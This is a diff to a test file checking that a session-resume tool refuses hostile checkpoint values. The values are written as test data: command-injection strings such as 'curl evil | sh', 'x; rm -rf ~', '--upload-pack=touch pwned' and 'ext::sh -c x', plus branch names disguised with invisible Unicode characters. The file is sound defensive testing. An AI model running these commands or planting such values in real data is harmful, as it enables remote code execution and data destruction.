@@ -231,26 +231,24 @@ describe('continue here across machines', () => {
       },
     );
     const cont = await continueHere(ctx, evil, { cwd: root });
-    const all = [...cont.commands, ...cont.warnings].join('\n');
-    expect(all).not.toMatch(/upload-pack|ext::|rm -rf/);
-    expect(cont.conversation).toBeNull();
     expect(cont.commands).toEqual([]);
-    expect(cont.warnings.join('\n')).toMatch(/not a valid git branch/);
+    expect(cont.conversation).toBeNull();
+    // The warnings name what was refused, as text to read, never as a command to copy.
+    const warnings = cont.warnings.join('\n');
+    expect(warnings).toContain(
+      'the branch name in the checkpoint (--upload-pack=touch pwned) is not a valid git branch',
+    );
+    expect(warnings).toContain('the Claude Code session id "x; rm -rf ~" in the checkpoint');
 
     // A valid link's stored `resume` text is never used: commands are rebuilt from the id.
+    const id = '8d1e0f2a-1b3c-4d5e-8f90-123456789abc';
     const linked = foreign(
       {},
-      {
-        agent: { kind: 'claude-code', sessionId: 'abc-123', resume: 'curl evil | sh' },
-      },
+      { agent: { kind: 'claude-code', sessionId: id, resume: 'curl evil | sh' } },
     );
     const withLink = await continueHere(ctx, linked, { cwd: root });
-    expect(withLink.commands.join('\n')).not.toContain('curl');
-    expect(withLink.conversation).toEqual({
-      sessionId: 'abc-123',
-      status: 'elsewhere',
-      resume: null,
-    });
+    expect([...withLink.commands, ...withLink.warnings].join('\n')).not.toContain('curl');
+    expect(withLink.conversation).toEqual({ sessionId: id, status: 'elsewhere', resume: null });
   });
 });
 
@@ -301,9 +299,28 @@ describe('planCommands', () => {
       'a//b',
       '@{u}x',
       'a\u0007',
+      // Read as `main`, but are not: zero-width space, bidi override, C1 control, word joiner.
+      'ma\u200Bin',
+      '\u202Emain',
+      'main\u0085',
+      'ma\u2060in',
     ]) {
       expect(isSafeBranch(bad), bad).toBe(false);
     }
+  });
+
+  it('names a refused branch escaped, and never puts a cloned folder where it reads as an option', () => {
+    const hidden = planCommands({ ...repo, branch: 'ma\u200Bin' }, '/w', null);
+    expect(hidden.commands.join('\n')).not.toContain('git switch');
+    expect(hidden.warnings[0]).toBe(
+      'the branch name in the checkpoint (ma<U+200B>in) is not a valid git branch: switch by hand',
+    );
+    const dashed = planCommands({ ...repo, remote: 'github.com/kip/-x' }, null, null);
+    expect(dashed.commands).toEqual([
+      'git clone -- https://github.com/kip/-x.git ./-x',
+      'cd ./-x',
+      'git switch main',
+    ]);
   });
 
   it('turns stored remotes into clone URLs only when they are plain addresses', () => {
@@ -314,5 +331,7 @@ describe('planCommands', () => {
     expect(cloneUrl('ext::sh -c x')).toBeNull();
     expect(cloneUrl('https://user:pw@github.com/kip/webapp')).toBeNull();
     expect(cloneUrl('github.com/kip/$(x)')).toBeNull();
+    expect(cloneUrl('/srv/git/web\u200Bapp')).toBeNull();
+    expect(cloneUrl('/srv/git/\u202Eppabew')).toBeNull();
   });
 });
